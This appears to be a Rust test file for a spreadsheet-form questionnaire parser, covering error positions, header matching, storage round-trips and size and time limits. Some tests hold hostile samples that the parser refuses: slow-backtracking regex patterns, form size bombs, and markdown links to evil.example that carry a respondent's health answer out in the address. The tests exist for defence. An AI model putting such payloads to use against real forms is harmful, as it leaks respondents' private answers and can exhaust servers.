//! Sheets: what is taken over from them, and each error at its row and column.

use forms::questionnaire::{Compiled, Kind, Questionnaire, SheetCode, parse, pieces};
use proptest::prelude::*;
use serde_json::json;

use crate::{everything, form, places, refused, without_files};

const CHOICES: &str = "list_name,name,label\nyn,yes,Yes\nyn,no,No\n";

#[test]
fn each_error_is_reported_at_its_row_and_column() {
    let survey = "type,name,label,relevant,constraint,required,parameters\n\
        text,a,A,,,,\n\
        thermometer,place,Where,,,,\n\
        text,a,Again,,,,\n\
        text,b,B,${nothing} = 1,,,\n\
        \n\
        text,c,C,${place} = 1,. >,,\n\
        select_one nolist,d,D,,,,\n\
        text,e,,,,,\n\
        text,1f,F,,,,\n\
        text,,G,,,,\n\
        ,h,H,,,,\n\
        note,i,I,,,yes,\n\
        range,j,J,,,,start=5 end=1\n\
        calculate,k,,,,,\n\
        text,l,L,,,maybe,\n\
        end_group,,,,,,\n\
        begin_group,m,M,,,yes,\n\
        text,n,N,${o} = 1,,,\n\
        text,o,O,${n} = 1,,,\n\
        text,p,See ${q},${o} = 2,,,\n\
        begin_group,r,R,,,,\n";
    assert_eq!(
        places(&refused(survey, CHOICES)),
        [
            ("survey", 3, "type", SheetCode::UnknownType),
            ("survey", 4, "name", SheetCode::DuplicateName),
            ("survey", 5, "relevant", SheetCode::UnknownReference),
            ("survey", 7, "constraint", SheetCode::InvalidExpression),
            ("survey", 8, "type", SheetCode::UnknownList),
            ("survey", 9, "label", SheetCode::MissingLabel),
            ("survey", 10, "name", SheetCode::InvalidName),
            ("survey", 11, "name", SheetCode::MissingName),
            ("survey", 12, "type", SheetCode::MissingType),
            ("survey", 14, "parameters", SheetCode::InvalidParameter),
            ("survey", 15, "calculation", SheetCode::MissingCalculation),
            ("survey", 16, "required", SheetCode::InvalidExpression),
            ("survey", 17, "type", SheetCode::UnbalancedGroup),
            ("survey", 18, "required", SheetCode::NotForThisType),
            ("survey", 18, "type", SheetCode::UnbalancedGroup),
            ("survey", 19, "relevant", SheetCode::CircularReference),
            ("survey", 20, "relevant", SheetCode::CircularReference),
            ("survey", 21, "label", SheetCode::UnknownReference),
            ("survey", 22, "type", SheetCode::UnbalancedGroup),
        ]
    );
}

#[test]
fn each_error_in_the_choices_is_reported_at_its_row_and_column() {
    let survey = "type,name,label\nselect_multiple fruit,f,Fruit\nrank tea,t,Tea\nselect_one town,w,Town\n";
    let choices = "list_name,name,label,image\n\
        fruit,red apple,Apple,\n\
        fruit,pear,Pear,\n\
        fruit,pear,Another,\n\
        tea,green tea,Green,\n\
        town,New York,New York,\n\
        ,lost,Lost,\n\
        town,,Nameless,\n\
        town,rome,,\n\
        town,oslo,Oslo,\n";
    assert_eq!(
        places(&refused(survey, choices)),
        [
            ("choices", 2, "name", SheetCode::SpaceInChoice),
            ("choices", 4, "name", SheetCode::DuplicateChoice),
            ("choices", 5, "name", SheetCode::SpaceInChoice),
            ("choices", 7, "list_name", SheetCode::MissingList),
            ("choices", 8, "name", SheetCode::MissingName),
            ("choices", 9, "label", SheetCode::MissingLabel),
        ]
    );
}

#[test]
fn headers_and_settings_that_cannot_be_taken_over_are_refused() {
    let survey = "type,name,label::Klingon,hint::French (fr),relevent,default::English (en),name\ntext,a,A,H,${b},,\n";
    let errors = refused(survey, CHOICES);
    let places = places(&errors);
    assert!(places.contains(&("survey", 1, "label::Klingon", SheetCode::LanguageWithoutTag)));
    assert!(places.contains(&("survey", 2, "relevent", SheetCode::UnknownColumn)));
    assert!(places.contains(&("survey", 1, "default::English (en)", SheetCode::UnknownColumn)));
    assert!(places.contains(&("survey", 1, "name", SheetCode::DuplicateColumn)));

    let settings = b"form_title,submission_url,instance_name\nT,http://x,${zz}\nsecond,,\n";
    let errors = parse(b"type,name,label\ntext,a,A\n", None, Some(settings)).expect_err("errors");
    assert_eq!(crate::places(&errors), [("settings", 3, "", SheetCode::ExtraRow),]);
}

#[test]
fn a_cell_that_no_encoding_explains_is_reported() {
    let errors = parse(b"type,name,label\ntext,a,Caf\xef\xbf\xbd\n", None, None).expect_err("errors");
    assert_eq!(places(&errors), [("survey", 2, "label", SheetCode::NotUtf8)]);
}

#[test]
fn a_sheet_without_questions_is_refused() {
    for survey in ["", "type,name,label\n", "type,name,calculation\ncalculate,a,1\n", "type,name\nstart,s\n"] {
        let errors = refused(survey, CHOICES);
        assert!(errors.iter().any(|error| error.code == SheetCode::NoQuestions), "{survey}: {errors:?}");
    }
}

#[test]
fn rows_are_counted_as_a_spreadsheet_counts_them() {
    for survey in [
        "type,name,label\r\n\r\ntext,a,\"two\r\nlines\"\r\n,,\r\n\r\nwrong,b,B\r\n",
        "\u{feff}type,name,label\n\ntext,a,\"two\nlines\"\n,,\n\nwrong,b,B",
        "type;name;label\r\rtext;a;\"two\rlines\"\r;;\r\rwrong;b;B\r",
    ] {
        assert_eq!(places(&refused(survey, CHOICES)), [("survey", 6, "type", SheetCode::UnknownType)], "{survey}");
    }
}

#[test]
fn headers_are_matched_whatever_their_case_and_spacing() {
    let survey = " Type , NAME,Label::Français (fr),label :: English (en),Constraint Message::English (en),Constraint, Read Only,Relevance\n\
        Integer,age,Votre âge,Your age,Too old,. < 130,no,\n\
        Select One YN,ok,D'accord ?,,,,,${age} > 15\n\
        acknowledge,ack,Lu,Read,,,,\n";
    let choices = "List Name,Value,label::Français (fr),label::English (en)\nYN,yes,Oui,Yes\nYN,no,Non,\n";
    let settings = "Form Title,Default Language,version\nEssai,Français (fr),3\n";
    let questionnaire = parse(survey.as_bytes(), Some(choices.as_bytes()), Some(settings.as_bytes())).expect("parses");
    assert_eq!(questionnaire.default_language, "fr");
    assert_eq!(questionnaire.languages, ["fr", "en"]);
    assert_eq!(questionnaire.version, "3");
    assert_eq!(questionnaire.title.get("en", "fr"), "Essai");
    let [age, ok, _] = questionnaire.questions.as_slice() else { panic!() };
    assert_eq!(age.label.get("en", "fr"), "Your age");
    assert_eq!(age.constraint_message.get("en", "fr"), "Too old");
    assert_eq!(ok.label.get("en", "fr"), "D'accord ?", "an empty translation falls back");
    assert_eq!(questionnaire.choices(ok)[1].label.get("en-GB", "fr"), "Non");
    assert_eq!(questionnaire.choices(ok)[0].label.get("en-GB", "fr"), "Yes");
    assert_eq!(ok.kind, Kind::SelectOne { list: "YN".into(), or_other: false });
}

#[test]
fn a_top_level_group_is_a_page_and_so_is_each_run_of_questions_between_groups() {
    let compiled = form(
        "type,name,label,calculation\n\
         text,a,A,\ncalculate,k,,1 + 1\ntext,b,B,\n\
         begin_group,g,G,\nbegin_group,inner,,\ntext,c,C,\nend_group,,,\ntext,d,D,\nend_group,,,\n\
         begin_group,empty,,\ncalculate,z,,2\nend group,,,\n\
         note,e,E,\n",
        CHOICES,
    );
    let pages: Vec<_> = compiled.questionnaire().pages.iter().map(|page| (page.group, page.questions.clone())).collect();
    assert_eq!(pages, [(None, vec![0, 2]), (Some(0), vec![3, 4]), (None, vec![6])]);
}

/// The survey of so many questions that offer one list, on one page or on one each.
fn offering(questions: usize, choices: usize, one_page: bool) -> (String, String) {
    let row = |n: usize| format!("select_one c,q{n},Q{n}\n");
    let survey: String = if one_page {
        format!("begin_group,g,\n{}end_group,,\n", (0..questions).map(row).collect::<String>())
    } else {
        (0..questions).map(|n| format!("begin_group,g{n},\n{}end_group,,\n", row(n))).collect()
    };
    let survey = format!("type,name,label\n{survey}");
    let choices: String = (0..choices).map(|n| format!("c,{n},C{n}\n")).collect();
    (survey, format!("list_name,name,label\n{choices}"))
}

#[test]
fn a_questionnaire_is_limited_by_what_it_costs_and_not_by_its_bytes() {
    // 20 KB whose one page would weigh 14 MB, and take 2 GB to write.
    let (survey, choices) = offering(300, 1500, true);
    assert!(survey.len() + choices.len() < 30_000);
    let errors = refused(&survey, &choices);
    assert_eq!(places(&errors), [("survey", 5, "type", SheetCode::TooLarge), ("survey", 46, "type", SheetCode::TooLarge)]);
    assert!(errors[0].message.contains("offers 4500 choices"), "{}", errors[0].message);
    // What people write: a list of all municipalities, asked for twice; forty questions of five choices.
    for (questions, offered, one_page) in [(2, 1500, true), (40, 5, true), (30, 1500, false)] {
        let (survey, choices) = offering(questions, offered, one_page);
        form(&survey, &choices);
    }
    // On pages of their own it is all of them together.
    let (survey, choices) = offering(300, 1500, false);
    assert_eq!(places(&refused(&survey, &choices)).len(), 1);
    let long = format!(
        "type,name,label\nbegin_group,g,\n{}end_group,,\n",
        (0..50).map(|n| format!("note,n{n},{}\n", "x".repeat(30_000))).collect::<String>()
    );
    assert_eq!(places(&refused(&long, "")), [("survey", 37, "type", SheetCode::TooLarge)]);
}

#[test]
fn patterns_are_limited_by_what_they_take_when_they_are_ready() {
    let survey = |count: usize, same: bool| {
        let pattern = |n: usize| format!(r"[a-z]{{1,{}}}\\d+x", 40 + if same { 0 } else { n });
        let rows: String = (0..count).map(|n| format!("text,q{n},Q,\"regex(., '{}')\"\n", pattern(n))).collect();
        format!("type,name,label,constraint\n{rows}")
    };
    let many = survey(1200, false);
    let errors = refused(&many, "");
    assert!(errors.iter().any(|e| (e.column.as_str(), e.code) == ("constraint", SheetCode::TooLarge)), "{errors:?}");
    form(&survey(40, false), "");
    form(&survey(1200, true), "");
}

#[test]
fn conditions_are_limited_by_what_they_ask_of_one_answer() {
    // 220 patterns that read an answer slowly, thirty times: one answer took a minute, and everybody waited.
    let slow = (0..220).map(|_| "regex(${a},'[ab]*a[ab]{900}')").collect::<Vec<_>>().join(" or ");
    let survey = |rows: usize| {
        let rows: String = (0..rows).map(|n| format!("note,n{n},N,\"{slow}\"\n")).collect();
        format!("type,name,label,relevant\ntext,a,A,\n{rows}")
    };
    let errors = refused(&survey(30), "");
    assert_eq!(
        places(&errors).iter().map(|(sheet, _, column, code)| (*sheet, *column, *code)).collect::<Vec<_>>(),
        [("survey", "relevant", SheetCode::TooLarge)]
    );
    // What people write is checked where others are served; what asks much is not.
    let names: String = (0..40).map(|n| format!("text,q{n},Q,\"regex(., '^[A-Za-z ]{{2,50}}$')\"\n")).collect();
    assert!(!form(&format!("type,name,label,constraint\n{names}"), "").is_heavy());
    assert!(form("type,name,label,constraint\ntext,a,A,\"regex(., '[ab]*a[ab]{900}') or regex(., '[\\p{L} ]{2,50}')\"\n", "").is_heavy());
}

#[test]
fn a_label_weighs_what_the_answers_in_it_may_be() {
    let quotes =
        |count: usize| format!("type,name,label\ntext,a,A\ninteger,n,N\nbegin_group,g,\nnote,q,\"{}\"\nend_group,,\n", "${a} ".repeat(count));
    assert_eq!(places(&refused(&quotes(200), "")), [("survey", 5, "type", SheetCode::TooLarge)]);
    form(&quotes(20), "");
    form(&quotes(1_000).replace("${a}", "${n}"), "");
}

#[test]
fn a_questionnaire_refers_to_questions_no_more_often_than_apps_can_hold() {
    // 12 KB of workbook whose XForm was 304 MB: each reference is a path through sixteen long names.
    let names: Vec<String> = (0..16).map(|n| format!("{}{n}", "g".repeat(60))).collect();
    let open: String = names.iter().map(|name| format!("begin_group,{name},,\n")).collect();
    let refers = vec!["${a}"; 900].join("+");
    let survey = |rows: usize| {
        let rows: String = (0..rows).map(|n| format!("note,n{n},N,{refers} > 0\n")).collect();
        format!("type,name,label,relevant\n{open}integer,a,A,\n{rows}{}", "end_group,,,\n".repeat(16))
    };
    assert!(places(&refused(&survey(60), "")).iter().any(|(_, _, column, code)| (*column, *code) == ("relevant", SheetCode::TooLarge)));
    assert!(forms::xform::write(form(&survey(20), "").questionnaire()).len() < 40 << 20);
}

#[test]
fn what_an_answer_becomes_has_a_limit() {
    let rows: String = (0..4_990).map(|n| format!("calculate,c{n},,${{a}}\n")).collect();
    let compiled = form(&format!("type,name,label,calculation\ntext,a,A,\ntext,b,B,\n{rows}"), "");
    let check = |text: String| forms::answers::check_to_json(&compiled, &crate::answered(json!({"a": text})), crate::today());
    let errors = check("😀".repeat(2_000)).unwrap_err();
    assert_eq!(crate::codes(errors), [("a".to_owned(), forms::answers::AnswerCode::TooMuch)]);
    assert!(check("short".to_owned()).unwrap().len() < 200_000);
}

#[test]
fn what_was_stored_before_there_were_limits_is_read_and_shares_its_lists() {
    let choices: Vec<_> = (0..1500).map(|n| json!({"name": format!("{n}"), "label": {"und": "C"}})).collect();
    let questions: Vec<_> = (0..300)
        .map(|n| json!({"name": format!("q{n}"), "type": "select_one", "list": "c", "constraint": format!("regex(., 'a{{{n}}}')")}))
        .collect();
    let stored = json!({"default_language": "und", "languages": ["und"], "questions": questions,
        "pages": [{"questions": (0..300).collect::<Vec<usize>>()}], "choice_lists": {"c": choices}});
    let compiled = Compiled::new(serde_json::from_value::<Questionnaire>(stored).unwrap()).unwrap();
    assert_eq!((compiled.choice_position(299, "1499"), compiled.choice_position(0, "none")), (Some(1499), None));
    let shown = format!("{compiled:?}");
    assert!(shown.len() < 3_000_000, "the names of a list are kept once, not with each question: {}", shown.len());
}

#[test]
fn a_questionnaire_survives_storage_unchanged() {
    let compiled = everything();
    let stored = serde_json::to_string(compiled.questionnaire()).expect("serialises");
    let read: Questionnaire = serde_json::from_str(&stored).expect("reads");
    assert_eq!(&read, compiled.questionnaire());
    assert_eq!(serde_json::to_string(&read).expect("serialises"), stored);
    assert!(Compiled::new(read).is_ok());
}

#[test]
fn a_stored_form_that_points_nowhere_is_refused() {
    let good = serde_json::to_value(everything().questionnaire()).expect("serialises");
    for (path, value) in [
        ("/questions/0/group", json!(99)),
        ("/groups/0/parent", json!(0)),
        ("/pages/0/questions", json!([9999])),
        ("/questions/1/name", good["questions"][0]["name"].clone()),
    ] {
        let mut bad = good.clone();
        let (parent, key) = path.rsplit_once('/').expect("a path");
        bad.pointer_mut(parent).expect("there")[key] = value;
        let read: Questionnaire = serde_json::from_value(bad).expect("reads");
        assert!(Compiled::new(read).is_err(), "{path}");
    }
}

proptest! {
    #![proptest_config(without_files())]

    #[test]
    fn no_bytes_make_the_reader_panic(survey in prop::collection::vec(any::<u8>(), 0..300), choices in prop::collection::vec(any::<u8>(), 0..100)) {
        let _ = parse(&survey, Some(&choices), Some(&survey));
    }

    #[test]
    fn no_rows_make_the_reader_panic(rows in prop::collection::vec((
        prop::sample::select(vec!["text", "select_one yn", "select_multiple yn or_other", "rank yn", "begin_group", "end_group", "calculate", "range", "note", "today", "x"]),
        prop::sample::select(vec!["a", "b", "a_other", "", "é"]),
        prop::sample::select(vec!["", "L", "${a}", "${"]),
        prop::sample::select(vec!["", "${a} = ${b}", "name = 1", "(", "."]),
    ), 0..12)) {
        let mut survey = "type,name,label,relevant,calculation,constraint,choice_filter\n".to_owned();
        for (kind, name, label, expression) in rows {
            for cell in [kind, name, label, expression, expression, expression] {
                survey.extend([cell, ","]);
            }
            survey.extend([expression, "\n"]);
        }
        let _ = parse(survey.as_bytes(), Some(CHOICES.as_bytes()), None);
    }
}

/// Thirty labels of apostrophes gave a page of 5.9 MB, and links as many as fit even more.
#[test]
fn a_page_weighs_what_is_sent_of_it() {
    let labels = |count: usize, label: &str| -> String {
        "type,name,label\n".to_owned() + &(0..count).map(|n| format!("note,q{n},\"{label}\"\n")).collect::<String>()
    };
    for label in ["'".repeat(32_000), "&".repeat(32_000), "[a](http://b)".repeat(2_400), "**a** ".repeat(5_300)] {
        let refused = refused(&labels(30, &label), "");
        assert!(refused.iter().all(|error| error.code == SheetCode::TooLarge) && refused[0].row < 31, "{}: {refused:?}", &label[..6]);
    }
    form(&labels(30, &"a".repeat(32_000)), "");
    let hints: String = "type,name,label,guidance_hint,constraint_message,constraint\n".to_owned()
        + &(0..30).map(|n| format!("text,q{n},Q,{},{},. != ''\n", "a".repeat(20_000), "b".repeat(20_000))).collect::<String>();
    assert_eq!(refused(&hints, "")[0].code, SheetCode::TooLarge);
    let groups: String = "type,name,label\nbegin_group,all,All\n".to_owned()
        + &(0..40).map(|n| format!("begin_group,g{n},{}\ntext,q{n},Q\nend_group,,\n", "a".repeat(30_000))).collect::<String>()
        + "end_group,,\n";
    assert_eq!(refused(&groups, "")[0].code, SheetCode::TooLarge);
}

/// Labels of nothing but what never ends cost seconds at each page.
#[test]
fn a_text_is_split_in_one_walk() {
    let timed = |length: usize| {
        let text = "${".repeat(length);
        let begun = std::time::Instant::now();
        assert_eq!(pieces(&text).count(), 1);
        begun.elapsed()
    };
    let (short, long) = ((0..3).map(|_| timed(20_000)).min().unwrap(), (0..3).map(|_| timed(320_000)).min().unwrap());
    assert!(long < short * 100 + std::time::Duration::from_millis(20), "{short:?}, {long:?}");
}

/// An answer in the address of a link is told to the other site by whoever follows it.
#[test]
fn an_address_of_a_link_that_quotes_an_answer_is_refused_at_its_row_and_shown_as_text_where_it_is_published() {
    let survey = "type,name,label,hint\nselect_one yn,ill,Ill?,\nnote,n,Read [our promise](https://evil.example/p?a=${ill}),\n\
        text,t,[${ill}](https://good.example),[x](mailto:${ill})\n";
    let choices = "list_name,name,label\nyn,y,Yes\nyn,n,[No](https://evil.example/${ill})\n";
    let errors = refused(survey, choices);
    let at = |sheet, row, column| (sheet, row, column, SheetCode::InvalidValue);
    assert_eq!(places(&errors), [at("survey", 3, "label"), at("survey", 4, "hint"), at("choices", 3, "label")]);
    let good = form("type,name,label\nselect_one yn,ill,Ill?\nnote,n,Read [this](https://good.example/x)\n", "list_name,name,label\nyn,y,Yes\n");
    let mut stored = serde_json::to_value(good.into_questionnaire()).unwrap();
    stored["questions"][1]["label"] = serde_json::json!({"und": "Read [this](https://evil.example/x?${ill})"});
    let before = Compiled::new(serde_json::from_value(stored).unwrap()).expect("what was published goes on");
    let answers = crate::answered(serde_json::json!({"ill": "y"}));
    let relevance = forms::answers::Relevance::of(&before, &answers, crate::today());
    let label = &before.questionnaire().questions[1].label;
    assert_eq!(relevance.fill(label, "und"), "Read [this](https://evil.example/x?Yes)");
    assert!(!relevance.fill_html(label, "und").unwrap_or_default().contains("href"));
}
